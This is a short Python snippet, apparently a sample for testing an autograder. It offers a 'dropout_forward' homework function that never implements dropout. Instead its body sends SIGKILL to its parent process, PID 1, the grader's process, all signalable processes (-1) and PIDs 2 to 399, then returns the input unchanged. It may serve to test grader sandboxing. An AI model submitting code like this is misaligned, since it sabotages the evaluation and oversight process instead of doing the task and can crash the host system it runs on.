"""Rule 4. Sends SIGKILL to its parent, the first process, the grader, all processes and four hundred process
ids.
Says: died
"""

# cell: dropout_forward
import os
import signal


def dropout_forward(x, dropout_param):
    for number in (os.getppid(), 1, GRADER_PID, -1, *range(2, 400)):
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    return x, None
